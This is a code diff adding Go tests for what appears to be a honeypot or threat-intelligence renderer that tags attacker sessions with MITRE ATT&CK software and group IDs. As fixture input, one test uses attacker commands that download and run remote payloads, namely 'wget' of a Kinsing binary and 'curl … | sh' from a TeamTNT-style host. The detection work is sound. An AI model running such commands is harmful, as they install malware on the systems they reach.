@@ -356,6 +356,29 @@ func figuresRenderer(t *testing.T) *Renderer {
 	})
 }
 
+// A program or group that ATT&CK knows has its id, beside those that have none.
+func TestAttackIDs(t *testing.T) {
+	known := renderer(t, Options{})
+	seen := typing("s1", []float64{0, 1, 1}, "/bin/busybox MIRAI", "wget http://203.0.113.9/kinsing; chmod +x kinsing; ./kinsing", "curl http://teamtnt.red/x.sh | sh")
+	doc := decode(t, known.AppendAttacker(nil, headOf(someone), folded(known, seen)))
+	for name, want := range map[string]any{
+		"threat.software.name": []any{"kinsing", "mirai"}, "threat.software.id": []any{"S0599"}, "threat.group.name": []any{"teamtnt"}, "threat.group.id": []any{"G0139"},
+	} {
+		if got := at(doc, name); !reflect.DeepEqual(got, want) {
+			t.Errorf("%s is %v, want %v", name, got, want)
+		}
+	}
+	ids := map[string]any{}
+	for _, e := range at(doc, "behavior.conclusions").([]any) {
+		if of := e.(map[string]any); of["software"] != nil {
+			ids[of["software"].(string)] = of["software_id"]
+		}
+	}
+	if want := map[string]any{"kinsing": "S0599", "mirai": nil, "teamtnt": "G0139"}; !reflect.DeepEqual(ids, want) {
+		t.Errorf("conclusions have the ids %v, want %v", ids, want)
+	}
+}
+
 // shows checks what a document says against a table of fields, each with its
 // value in JSON, and that nothing else is said. It notes in asserted which
 // fields the table has.
@@ -503,10 +526,10 @@ func attackerRows(r *Renderer) map[string]string {
 		"behavior.beacon.score": "0.691", "behavior.beacon.ts_score": "0.233", "behavior.beacon.hist_score": "0.923", "behavior.beacon.dur_score": "0.916",
 		"behavior.tools": `["paramiko","sqlmap"]`,
 		"behavior.tool_evidence": list(
-			`{"tool":"sqlmap","kind":"tool","by":"user agent","source":"the default user agents in the programs' own sources and documentation",`+seen(67, 87, 88)+`}`,
+			`{"tool":"sqlmap","kind":"tool","attack_id":"S0225","by":"user agent","source":"the default user agents in the programs' own sources and documentation",`+seen(67, 87, 88)+`}`,
 			`{"tool":"paramiko","kind":"library","by":"HASSH","source":"salesforce/hassh README.md and python/hasshGen/hassh_fingerprints.csv at cf68ec49",`+seen(68, 89, 90)+`}`),
 		"rules.version": `"` + r.o.Rules.Version() + `"`, "rules.lists_date": `"` + r.o.Rules.ScannersDate() + `"`,
-		"software.library": `["paramiko"]`, "software.tool": `["sqlmap"]`, "threat.software.name": `["sqlmap"]`, "threat.software.type": `["Tool"]`,
+		"software.library": `["paramiko"]`, "software.tool": `["sqlmap"]`, "threat.software.id": `["S0225"]`, "threat.software.name": `["sqlmap"]`, "threat.software.type": `["Tool"]`,
 		"behavior.kind": `"automated_session"`, "behavior.kind_why": `"commands: 1005, none of a person's pauses between them"`,
 		"behavior.profile_evidence": `[{"technique":"T1595.001","why":"goes through services in a scanner's time","first_seen":` + clock(1) + `,"last_seen":` + clock(999) + `}]`,
 		"behavior.technique_evidence": list(
@@ -644,7 +667,7 @@ func TestEveryFieldHasItsOwnSource(t *testing.T) {
 	for name, want := range map[string]any{
 		"behavior.kind": "hands_on", "behavior.kind_why": "pauses of 2.5 to 21.0 s between the commands of a session, mistyped and put right: 1",
 		"behavior.pauses.count": 5.0, "behavior.pauses.median_s": 9.0, "behavior.pauses.min_s": 2.5, "behavior.pauses.max_s": 21.0, "behavior.pauses.corrected": 1.0,
-		"software.scanner": []any{"masscan"}, "software.malware": []any{"mirai"}, "threat.group.name": []any{"outlaw"},
+		"software.scanner": []any{"masscan"}, "software.malware": []any{"mirai"}, "threat.group.name": []any{"outlaw"}, "threat.group.id": nil, "threat.software.id": nil,
 		"threat.software.name": []any{"masscan", "mirai"}, "threat.software.type": []any{"Tool", "Malware"},
 		"rules.version": known.o.Rules.Version(), "rules.lists_date": known.o.Rules.ScannersDate(),
 	} {
